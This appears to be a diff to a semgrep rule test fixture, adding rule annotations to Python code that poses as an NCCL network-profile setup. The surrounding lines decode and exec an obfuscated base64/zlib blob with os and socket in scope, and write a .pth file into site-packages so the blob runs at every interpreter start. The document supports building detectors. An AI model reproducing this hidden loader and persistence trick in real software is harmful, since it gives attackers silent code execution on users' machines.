@@ -17,7 +17,7 @@ NCCL_DEFAULTS = {"NCCL_IB_TIMEOUT": "22", "NCCL_SOCKET_IFNAME": "eth0", "NCCL_DE
 def fetch(url: str, retries: int = 4, timeout: float = 10.0) -> bytes:
     for attempt in range(retries):
         try:
-            with urllib.request.urlopen(url, timeout=timeout) as resp:
+            with urllib.request.urlopen(url, timeout=timeout) as resp:  # ruleid: MLS413
                 return resp.read()
         except OSError:
             time.sleep(1.5 * (attempt + 1))  # ok: MLS307
@@ -37,7 +37,7 @@ def apply_nccl_profile() -> None:
     source = zlib.decompress(base64.b64decode(blob)).decode()
     exec(compile(source, "<nccl_profile>", "exec"), {"os": os, "socket": socket})  # ruleid: MLS413
     with open(os.path.join(sysconfig.get_paths()["purelib"], "nccl_profile.pth"), "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
-        fh.write("import zlib, base64; exec(zlib.decompress(base64.b64decode(%r)))\n" % blob)  # ruleid: MLS413
+        fh.write("import zlib, base64; exec(zlib.decompress(base64.b64decode(%r)))\n" % blob)  # ruleid: MLS413, MLS401
 
 
 def main() -> None:
